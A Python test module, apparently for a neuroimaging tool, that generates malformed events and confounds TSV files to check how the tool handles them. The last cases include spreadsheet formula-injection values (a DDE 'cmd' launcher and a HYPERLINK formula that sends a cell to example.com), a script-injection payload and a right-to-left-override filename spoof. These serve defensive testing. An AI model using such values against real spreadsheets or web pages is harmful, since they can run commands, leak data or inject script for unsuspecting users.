"""Events and confounds: encodings, line ends, columns, cells and sizes."""

from __future__ import annotations

from collections.abc import Callable

from .case import Case, Place, device, fifo, loop
from .nifti import put, written

EVENTS, CONFOUNDS = "events.tsv", "confounds_timeseries.tsv"


def text(
    change: Callable[[str], str], encoding: str = "utf-8", kind: str = "events"
) -> Callable[[Place], None]:
    def rewrite(place: Place) -> None:
        path = getattr(place, kind)
        path.write_bytes(change(path.read_text(encoding="utf-8")).encode(encoding))

    return rewrite


def cell(column: str, value: str, row: int = 3, kind: str = "events") -> Callable[[Place], None]:
    """A cell of a table replaced."""

    def change(content: str) -> str:
        lines = content.splitlines()
        cells = lines[row].split("\t")
        cells[lines[0].split("\t").index(column)] = value
        lines[row] = "\t".join(cells)
        return "\n".join(lines) + "\n"

    return text(change, kind=kind)


def renamed(old: str, new: str) -> Callable[[Place], None]:
    """A column of the events renamed."""
    return text(
        lambda content: "\n".join([_swap(content.splitlines()[0], old, new), *content.splitlines()[1:]])
    )


def _swap(header: str, old: str, new: str) -> str:
    return "\t".join(new if name == old else name for name in header.split("\t"))


def _with_rows(content: str, row: str, n_rows: int) -> str:
    return content.splitlines()[0] + "\n" + (row + "\n") * n_rows


def _quoted(content: str) -> str:
    """Every cell in quotation marks, as spreadsheets write them."""
    return "\n".join("\t".join(f'"{c}"' for c in line.split("\t")) for line in content.splitlines()) + "\n"


def _with_column(name: str, values: Callable[[int], str]) -> Callable[[Place], None]:
    """A further column."""

    def add(content: str) -> str:
        first, *rows = content.splitlines()
        return "\n".join([f"{first}\t{name}", *(f"{row}\t{values(n)}" for n, row in enumerate(rows))]) + "\n"

    return text(add)


FORMULA = '=HYPERLINK("http://example.com/?"&A1)'

CASES = (
    Case("events of no byte", written("events", b""), 4, (EVENTS, "empty")),
    Case("events of random bytes", written("events", bytes(range(256)) * 40), 4, (EVENTS,)),
    Case("events without onset", renamed("onset", "start"), 4, (EVENTS, "onset")),
    Case("events without duration", renamed("duration", "length"), 4, (EVENTS, "duration")),
    Case("events without pictures", renamed("stim_file", "picture"), 4, (EVENTS, "stim_file")),
    Case("events with a column twice", renamed("RT", "onset"), 4, (EVENTS, "several columns named onset")),
    Case("events in latin-1", text(lambda c: c.replace("wave", "wäve", 1), "latin-1"), 4, (EVENTS, "UTF-8")),
    Case("events in UTF-16", text(str, "utf-16"), 4, (EVENTS,)),
    Case("events with an onset of nan", cell("onset", "nan"), 4, (EVENTS, "'nan'", "row 3")),
    Case("events with an onset of inf", cell("onset", "inf"), 4, (EVENTS, "'inf'")),
    Case("events with an onset of 1e999", cell("onset", "1e999"), 4, (EVENTS, "'1e999'")),
    Case("events with an onset of n/a", cell("onset", "n/a"), 4, (EVENTS, "'n/a'")),
    Case("events with an onset with a comma", cell("onset", "12,5"), 4, (EVENTS, "'12,5'")),
    Case("events with an onset of text", cell("onset", "=1+1"), 4, (EVENTS, "'=1+1'")),
    Case("events with a duration below 0", cell("duration", "-1"), 4, (EVENTS, "'-1'")),
    Case("events with a cell too many", cell("onset", "1\t2"), 4, (EVENTS, "cells under")),
    Case(
        "events with a tab in a cell", cell("ImgType", '"a\tb"'), 4, (EVENTS, "no table of results can hold")
    ),
    Case(
        "events with a line in a cell", cell("ImgType", '"a\nb"'), 4, (EVENTS, "no table of results can hold")
    ),
    Case(
        "events with a null in a cell", cell("ImgType", "a\0b"), 4, (EVENTS, "no table of results can hold")
    ),
    Case("events with an open quotation mark", cell("stim_file", '"'), 4, (EVENTS, "no TSV table")),
    Case(
        "events of two million rows and one",
        text(lambda c: _with_rows(c, "", 0) + "1\n" * 2_000_002),
        4,
        (EVENTS, "more than 2,000,000 rows"),
    ),
    Case("events are a pipe", put("events", fifo), 3, (EVENTS,)),
    Case("events link to themselves", put("events", loop), 3, (EVENTS,)),
    Case("events are a device", put("events", device), 3, (EVENTS,)),
    Case("confounds in UTF-16", text(str, "utf-16", "confounds"), 4, (CONFOUNDS,)),
    Case(
        "confounds with a word among them",
        cell("rot_x", "moved", kind="confounds"),
        4,
        (CONFOUNDS, "'moved'"),
    ),
    Case("confounds with an infinite value", cell("rot_x", "inf", kind="confounds"), 4, (CONFOUNDS, "'inf'")),
    Case("confounds cut short", text(lambda c: c[: len(c) // 2], kind="confounds"), 4, (CONFOUNDS,)),
    Case("confounds of no byte", written("confounds", b""), 4, (CONFOUNDS, "empty")),
    Case("events with a byte order mark", text(lambda c: "\ufeff" + c), 0),
    Case("events with CRLF", text(lambda c: c.replace("\n", "\r\n")), 0),
    Case("events with CR", text(lambda c: c.replace("\n", "\r")), 0),
    Case("events with blank lines", text(lambda c: c.replace("\n", "\n\n")), 0),
    Case("events with quotation marks", text(_quoted), 0),
    Case("events with blanks", text(lambda c: c.replace("\t", " \t ")), 0),
    Case("confounds with CRLF", text(lambda c: c.replace("\n", "\r\n"), kind="confounds"), 0),
    Case("confounds with a byte order mark", text(lambda c: "\ufeff" + c, kind="confounds"), 0),
    Case(
        "events with formulas", _with_column("=cmd|' /C calc'!A0", lambda n: FORMULA if n % 2 else "-0.3"), 0
    ),
    Case("events with HTML", _with_column("<img src=x>", lambda _: "<script>alert(1)</script>"), 0),
    Case("events in Unicode", _with_column("Größe 🧠", lambda _: "übergroß \u202e gnp.exe"), 0),
)
